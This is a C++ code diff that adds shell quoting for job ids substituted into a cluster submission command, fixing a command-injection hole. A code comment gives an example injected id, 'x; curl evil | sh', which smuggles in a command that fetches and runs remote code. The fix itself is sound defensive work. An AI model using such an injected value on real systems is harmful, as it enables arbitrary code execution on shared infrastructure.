@@ -3,18 +3,40 @@
 #include "core/json/json.h"
 
 #include <algorithm>
+#include <cctype>
 #include <cmath>
 #include <fstream>
 #include <sstream>
+#include <string_view>
 
 namespace greenlight {
 
+namespace {
+
+// The job id as one shell word: sbatch --wrap runs the command through sh, and a trace's job id
+// is anyone's text ("x; curl evil | sh" would have run on the cluster). Plain ids stay as they are.
+std::string shellWord(const std::string& text)
+{
+    const bool plain = !text.empty() && std::all_of(text.begin(), text.end(), [](char c) {
+        return std::isalnum(static_cast<unsigned char>(c)) || std::string_view("._+:@%/=,-").find(c) != std::string_view::npos;
+    });
+    if (plain)
+        return text;
+    std::string quoted = "'";
+    for (const char c : text)
+        quoted += c == '\'' ? std::string("'\\''") : std::string(1, c);
+    return quoted + "'";
+}
+
+} // namespace
+
 std::string ClusterEndpoint::commandFor(const std::string& jobId) const
 {
+    const std::string word = shellWord(jobId);
     std::string command = jobCommand;
     for (std::size_t at = command.find("{job}"); at != std::string::npos; at = command.find("{job}", at)) {
-        command.replace(at, 5, jobId);
-        at += jobId.size(); // past the id, which may itself contain "{job}"
+        command.replace(at, 5, word);
+        at += word.size(); // past the id, which may itself contain "{job}"
     }
     return command;
 }
